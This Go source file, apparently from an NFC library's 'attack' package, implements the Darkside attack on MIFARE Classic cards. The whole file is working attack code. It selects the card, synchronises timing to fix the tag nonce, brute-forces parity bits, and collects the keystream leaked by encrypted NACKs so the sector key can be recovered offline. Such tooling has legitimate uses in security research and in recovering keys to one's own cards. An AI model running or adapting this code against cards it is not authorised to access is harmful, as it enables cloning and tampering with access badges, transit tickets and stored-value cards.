// Copyright 2026 The Zaparoo Project Contributors.
// SPDX-License-Identifier: Apache-2.0
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package attack

import (
	"context"
	"encoding/binary"
	"fmt"

	iso14a "github.com/ZaparooProject/go-iso14a"
	"github.com/ZaparooProject/go-iso14a/internal/crypto1"
	"github.com/ZaparooProject/go-iso14a/internal/frame"
)

// darksideGuard is the minimum lead, in ticks, the next authentication
// needs over the current time; a later slot waits for the next period.
const darksideGuard = 16

// Options select the key a Darkside run attacks.
type Options struct {
	// Block is the block named in the authentication.
	Block byte
	// KeyType is 0 for key A, 1 for key B.
	KeyType byte
	// FirstTry starts from scratch. Otherwise the run continues the
	// previous one with the next reader nonce.
	FirstTry bool
}

// Result is what a Darkside run recovered.
type Result struct {
	Status Status
	CUID   uint32
	// Nonce is the tag nonce the card was held on.
	Nonce uint32
	// NR and AR are the reader nonce and answer that were sent, with the
	// selector bits of NR cleared.
	NR uint32
	AR uint32
	// Parities and Keystream are indexed by the 3-bit selector in the top
	// bits of the last NR byte. Parities are bit-reversed.
	Parities  [8]byte
	Keystream [8]byte
	// Iterations is the number of authentications attempted.
	Iterations int
}

func (r *Result) String() string {
	return fmt.Sprintf("%s: cuid=%08X nt=%08X nr=%08X par=% X ks=% X after %d authentications",
		r.Status, r.CUID, r.Nonce, r.NR, r.Parities, r.Keystream, r.Iterations)
}

// Darkside holds the card on one tag nonce and brute-forces the parity
// bits of a fixed {nr}{ar} until the card answers an encrypted NACK for
// each of the eight selector values. The NACKs leak 4 keystream bits
// each, enough to recover the key offline.
//
// Card-side failures come back as a Result status. Errors are radio
// failures, cancellation (with StatusAborted) and ErrIterationLimit.
func (a *Attacker) Darkside(ctx context.Context, opts Options) (*Result, error) {
	r := a.reader
	if err := r.FieldOn(); err != nil {
		return nil, err
	}
	defer func() {
		if err := r.FieldOff(); err != nil {
			iso14a.Debugf("darkside: field off: %v", err)
		}
	}()

	auth := frame.AppendCRCA([]byte{frame.CmdAuthKeyA + opts.KeyType, opts.Block})
	var nrAr [8]byte
	var par byte
	if opts.FirstTry {
		a.syncCycles = nominalCycles
		a.ntAttacked = 0
		a.nrAr3 = 0
		a.parLow = 0
	} else {
		// another reader nonce; the parity of bytes 0-2 stays valid
		a.nrAr3++
		nrAr[3] = a.nrAr3
		par = a.parLow
	}

	res := &Result{}
	sched := prngSync{time: r.Radio().Now() &^ 7}
	var (
		uid        []byte
		nt, prevNT uint32
		ntDiff     byte
		unexpected int
		syncTries  int
		resp       [iso14a.MaxFrameSize]byte
		respPar    [iso14a.MaxParitySize]byte
	)

	finish := func(s Status, i int) *Result {
		nrAr[3] &= 0x1F
		res.Status = s
		res.Nonce = nt
		res.NR = binary.BigEndian.Uint32(nrAr[0:4])
		res.AR = binary.BigEndian.Uint32(nrAr[4:8])
		res.Iterations = i + 1
		iso14a.Debugf("darkside: %s", res)
		return res
	}
	abort := func(err error, i int) (*Result, error) {
		if ctx.Err() != nil {
			return finish(StatusAborted, i), err
		}
		return nil, fmt.Errorf("darkside: %w", err)
	}

	for i := 0; ; i++ {
		if a.limitReached(i) {
			finish(0, i-1)
			return res, ErrIterationLimit
		}
		if i > 0 && i%ctxCheckInterval == 0 {
			if err := ctx.Err(); err != nil {
				return finish(StatusAborted, i), err
			}
		}

		if uid == nil {
			status, card, err := r.Select(ctx, iso14a.SelectOptions{NoRATS: true})
			if err != nil {
				return abort(err, i)
			}
			if status != iso14a.SelectOK && status != iso14a.SelectNoISO14443_4 {
				iso14a.Debugf("darkside: cannot select card")
				continue
			}
			uid = card.UID
			res.CUID = card.CUID
		} else {
			ok, err := r.FastSelect(ctx, uid)
			if err != nil {
				return abort(err, i)
			}
			if !ok {
				iso14a.Debugf("darkside: cannot select card by UID")
				continue
			}
		}

		at := sched.next(a.syncCycles, r.Radio().Now(), darksideGuard)
		if err := r.Transmit(ctx, auth, &at); err != nil {
			return abort(err, i)
		}
		n, err := r.Receive(ctx, resp[:], respPar[:])
		if err != nil {
			return abort(err, i)
		}
		if n != 4 {
			continue
		}
		prevNT = nt
		nt = binary.BigEndian.Uint32(resp[:4])

		if err := r.TransmitPar(ctx, nrAr[:], []byte{par}, nil); err != nil {
			return abort(err, i)
		}
		n, err = r.Receive(ctx, resp[:], respPar[:])
		if err != nil {
			return abort(err, i)
		}
		nack := n == 1
		if n == 4 {
			return finish(StatusAuthenticated, i), nil
		}

		if prevNT != 0 && a.ntAttacked == 0 {
			d := crypto1.NonceDistance(prevNT, nt)
			switch {
			case d == 0:
				a.ntAttacked = nt
			case d == crypto1.DistanceInvalid:
				unexpected++
				if unexpected > maxUnexpectedRandom {
					return finish(StatusUnpredictable, i), nil
				}
				continue
			default:
				syncTries++
				if syncTries > maxSyncTries {
					return finish(StatusSyncFrequency, i), nil
				}
				a.syncCycles = (a.syncCycles - d) / sched.elapsed
				// a short period makes every slot a miss
				if a.syncCycles <= 10 {
					a.syncCycles += nominalCycles
				}
				if a.syncCycles > 2*nominalCycles {
					a.syncCycles = nominalCycles
					sched.time = r.Radio().Now() &^ 7
				}
				iso14a.Debugf("darkside: calibrating in iteration %d: distance=%d elapsed=%d sync cycles=%d",
					i, d, sched.elapsed, a.syncCycles)
				continue
			}
		}

		if a.ntAttacked != 0 && nt != a.ntAttacked {
			sched.resync(&a.syncCycles, a.ntAttacked, nt)
			continue
		}

		switch {
		case nack:
			// the encrypted NACK clocks the PRNG
			sched.catchUp = nackLag
			if ntDiff == 0 {
				a.parLow = par & 0xE0
			}
			res.Parities[ntDiff] = crypto1.Reflect8(par)
			res.Keystream[ntDiff] = resp[0] ^ 0x05
			if ntDiff == 7 {
				return finish(StatusOK, i), nil
			}
			ntDiff = (ntDiff + 1) & 7
			nrAr[3] = nrAr[3]&0x1F | ntDiff<<5
			par = a.parLow
		case ntDiff == 0 && opts.FirstTry:
			par++
			if par == 0 {
				return finish(StatusNoNACK, i), nil
			}
		default:
			par = (par&0x1F + 1) | a.parLow
		}
		sched.resyncs = 0
	}
}
